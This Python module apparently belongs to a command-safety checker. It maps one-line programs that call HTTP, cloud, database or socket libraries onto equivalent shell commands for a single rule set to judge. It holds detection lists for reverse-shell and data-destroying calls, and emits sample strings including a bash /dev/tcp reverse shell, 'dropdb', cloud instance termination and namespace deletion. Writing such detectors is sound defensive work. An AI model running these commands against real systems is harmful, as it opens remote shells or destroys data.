"""What does a one-line program do with a library: open a pull request, delete in a cloud, empty a database, give away a shell?

Says it as the shell command of the same effect, so that one set of rules judges both. Imported only when a program names
one of these libraries.
"""

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    Literal = tuple[str, bool, int, str]

MARKS = (
    "requests", "urllib", "httpx", "aiohttp", "http.client", "fetch(", "axios", "got(", "got.", "ky.", "Net::HTTP", "HTTParty", "Faraday", "LWP", "HTTP::Tiny", "curl_", "http.request",
    "https.request", "Octokit", "octokit", "github", "gitlab", "Gitlab", "boto", "aws-sdk", "google", "azure", "kubernetes", "docker", "socket", "Socket", "fsockopen", "/inet/",
    "net.", "objects", "drop_", "delete_", "flush", "deleteMany", "dropDatabase", "redis", "mongo", "pymongo", "truncate", "destroy_all", "lastic", "hvac",
)  # fmt: skip
"""A program without any of these names no such library."""
_POSTERS = (
    ".post(",
    "Request(",
    "fetch(",
    "request(",
    "urlopen(",
    "http_post",
    "post_form(",
    ".Post.new(",
    "Post.new",
    "file_get_contents(",
    "curl_setopt",
    "HTTParty.post",
    "->post(",
)
_PUTTERS = ((".put(", "PUT"), (".delete(", "DELETE"), (".patch(", "PATCH"))
_CREATORS = (
    "create_pull(", "create_pull_request(", "createPullRequest", "pulls.create(", "pullRequests.create(", "mergerequests.create(", "MergeRequests.create(", "createPullRequest(",
    "create_merge_request(", "pulls.create_pull_request(", "createMergeRequest(", "pull_requests.create(",
)  # fmt: skip
_COLLECTIONS = ("/pulls", "/merge_requests", "/pullrequests", "/pull-requests", "/pullRequests")
_CLOUDS = (
    "boto3",
    "botocore",
    "aws-sdk",
    "google.cloud",
    "@google-cloud",
    "googleapiclient",
    "azure.",
    "@azure",
    "kubernetes",
    "@kubernetes",
    "digitalocean",
    "hcloud",
    "openstack",
    "hvac",
    "docker",
)
_CLOUD_DELETES = (
    ".delete(", ".delete_", "terminate_", ".purge_", "begin_delete", "deleteBucket", "deleteTable", "deleteStack", "deleteDBInstance", "terminateInstances", "DeleteBucketCommand", "deleteNamespace",
    "DeleteTableCommand", "DeleteStackCommand", "DeleteDBInstanceCommand", "TerminateInstancesCommand", "DeleteObjectsCommand", "DeleteCommand(", "schedule_key_deletion", "deregister_", ".prune(", "prune(", "remove(v=True",
)  # fmt: skip
_CLOUD_ORDINARY = (
    ".delete_message",
    ".delete_tags",
    ".delete_object_tagging",
    ".delete_local",
    "dry_run=True",
    "DryRun=True",
    "DryRun: true",
)
_DATA_LOSSES = (
    ".objects.all().delete()", "drop_all(", "drop_database(", "dropDatabase(", ".delete_many({})", ".deleteMany({})", "deleteMany()", ".flushall(", ".flushdb(", ".flushAll(", ".flushDb(", ".delete_all", ".destroy_all",
    "delete_by_query(", ".drop_collection(", ".indices.delete(", ".truncate()", "::truncate(", ".drop_table(", ".remove({})", "drop_index(", ".sync({force", ".sync({ force", "deleteByQuery(", "delete_collection(",
)  # fmt: skip
_SHELL_PATHS = (
    "/bin/sh",
    "/bin/bash",
    "sh",
    "bash",
    "/bin/zsh",
    "cmd.exe",
    "/bin/dash",
    "-i",
    "/bin/sh -i",
    "/bin/bash -i",
)
_SOCKETS = (
    "socket",
    "Socket",
    "fsockopen",
    "net.connect",
    "net.Socket",
    "createConnection",
    "/inet/tcp",
    "TCPSocket",
    "IO::Socket",
)
_CONNECTORS = (
    "dup2(",
    "pty.spawn",
    "pty",
    ".pipe(",
    "exec",
    "popen",
    "spawn(",
    "proc_open",
    "STDIN->fdopen",
    "open(STDIN",
    "reopen(",
    "shell_exec",
    "os.execute",
    "subprocess",
)


def texts(
    program: str,
    bare: str,
    found: "Sequence[Literal]",
    reached: "Callable[[tuple[str, ...]], list[list[Literal]]]",
) -> "list[str]":
    """Give the shell commands with the same effect.

    Args:
        program: The whole program.
        bare: The program with blanks for its literals.
        found: Its literals.
        reached: A function that gives for each call of some words the literals in it.
    """
    said = []
    is_joined = ".connect(" in bare and any(text in ("net", "tls", "node:net") for text, _, _, _ in found)
    if is_joined or any(word in bare for word in _SOCKETS) or "/inet/tcp" in program:
        has_shell = any(text in _SHELL_PATHS or text.startswith(("/bin/sh", "/bin/bash")) for text, _, _, _ in found)
        if has_shell and any(word in bare for word in _CONNECTORS):
            said.append("bash -i >& /dev/tcp/192.0.2.1/1 0>&1")
    if any(word in bare for word in _CREATORS) or ("createPullRequest" in program and "mutation" in program):
        said.append("gh pr create")
    said.extend(_requests(bare, reached))
    is_cloud = any(word in program for word in _CLOUDS)
    if is_cloud and any(word in bare for word in _CLOUD_DELETES) and not any(word in bare for word in _CLOUD_ORDINARY):
        said.append(
            "kubectl delete namespace x"
            if "kubernetes" in program
            else "docker volume prune"
            if "docker" in program and "boto" not in program
            else "aws ec2 terminate-instances"
        )
    compact = "".join(bare.split())
    if any(word.replace(" ", "") in compact for word in _DATA_LOSSES) and not is_cloud:
        said.append("dropdb shop")
    return said


def _requests(bare: str, reached: "Callable[[tuple[str, ...]], list[list[Literal]]]") -> "list[str]":
    """Give the HTTP requests that change something, as curl would make them."""
    said = []
    for word in _POSTERS:
        if word not in bare:
            continue
        for literals in reached((word,)):
            said.extend(
                [
                    _curl(*text.split(" ", 1))
                    for text, _, _, _ in literals
                    if text.startswith(("POST /", "PUT /", "DELETE /"))
                ]
            )
            urls = [text for text, _, _, _ in literals if "/" in text and " " not in text]
            methods = [text.upper() for text, _, _, _ in literals if text.upper() in ("POST", "PUT", "DELETE", "PATCH")]
            posts = (
                word not in ("Request(", "fetch(", "request(", "urlopen(", "file_get_contents(", "curl_setopt")
                or "data=" in bare
                or "POSTFIELDS" in bare
            )
            verb = methods[0] if methods else "POST" if posts else ""
            said.extend([_curl(verb, url) for url in urls if verb])
    for word, verb in _PUTTERS:
        if word in bare:
            said.extend(
                [_curl(verb, text) for literals in reached((word,)) for text, _, _, _ in literals if "://" in text]
            )
    return said


def _curl(verb: str, url: str) -> str:
    path = url.partition("?")[0].rstrip("/")
    if path.endswith(_COLLECTIONS) and "://" not in url:
        url = (
            "https://api.github.com/repos/o/r/pulls"
            if "merge" not in url
            else "https://gitlab.com/api/v4/projects/1/merge_requests"
        )
    elif path.endswith(_COLLECTIONS) and not any(part in path for part in ("/repos/", "/projects/", "/repositories/")):
        url = "https://api.github.com/repos/o/r/pulls"
    body = " -d x=1" if verb == "POST" else ""
    return "curl -X " + verb + body + " '" + url.replace("'", "") + "'"
